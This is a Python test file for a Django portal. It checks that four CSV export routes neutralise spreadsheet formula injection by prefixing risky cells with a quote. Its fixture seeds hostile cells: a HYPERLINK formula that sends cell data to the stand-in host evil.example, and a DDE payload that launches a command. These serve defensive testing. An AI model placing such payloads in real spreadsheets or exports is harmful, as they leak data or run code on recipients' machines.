"""Every CSV file the portal serves neutralises spreadsheet formulas (CSV injection): a cell that a spreadsheet
would run as a formula, because it starts with =, +, -, @, a tab or a carriage return, starts with a quote.

CSV_EXPORTS lists the routes that serve CSV. The URL matrix (tests/security/test_url_matrix.py) requests every
route of the URLconf and fails on a CSV answer from a route that is not listed here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.test import Client

from consultations.models import Consultation
from newsletters.models import MailingList
from organizations.models import Organization
from portal.models import User
from statements.models import Statement
from tests.conftest import sign_in
from tests.factories import (
    ConsultationFactory,
    EndorsementFactory,
    MailingListFactory,
    OrganizationFactory,
    StatementFactory,
    SubmissionFactory,
    SubscriberFactory,
    SubscriptionFactory,
    host_organization,
    make_coordinator,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Seeded:
    coordinator: User
    organization: Organization
    mailing_list: MailingList
    statement: Statement
    consultation: Consultation


CSV_EXPORTS: dict[str, Callable[[Seeded], str]] = {
    "organizations:export": lambda s: "/en/organizations/export.csv",
    "newsletters:list_export": lambda s: f"/en/bulletins/lists/{s.mailing_list.slug}/export.csv",
    "statements:endorsers_csv": lambda s: f"/en/statements/{s.statement.slug}/endorsers.csv",
    "consultations:csv": lambda s: f"/en/consultations/{s.consultation.slug}/submissions.csv",
}


@pytest.fixture
def seeded(db: None) -> Seeded:
    """A coordinator of the IIIM, and in each export something a spreadsheet would run."""
    organization = OrganizationFactory(
        name_en='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        name_ar="@SUM(1+1)",
        acronym="+1",
        email="-2@example.org",
        email_visibility="public",
        address="\tCanal Street",
        address_visibility="public",
    )
    mailing_list = MailingListFactory(owner=host_organization())
    for email in ("=1+2@example.org", "+33@example.org", "-x@example.org"):
        SubscriptionFactory(mailing_list=mailing_list, subscriber=SubscriberFactory(email=email))
    statement = StatementFactory(owner=host_organization())
    EndorsementFactory(statement=statement, organization=organization, named_publicly=True)
    consultation = ConsultationFactory(host=host_organization())
    answers = {str(consultation.questions.get().pk): "=cmd|' /C calc'!A0"}
    SubmissionFactory(consultation=consultation, organization=organization, answers=answers)
    return Seeded(make_coordinator(), organization, mailing_list, statement, consultation)


@pytest.mark.parametrize("key", CSV_EXPORTS)
def test_export_neutralises_every_cell_that_would_run_as_a_formula(seeded: Seeded, key: str) -> None:
    client = Client()
    sign_in(client, seeded.coordinator)

    response = client.get(CSV_EXPORTS[key](seeded))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # The formulas are there, made inert: the test is not passing on an empty file.
    assert any(cell.startswith("'=") for cell in cells)
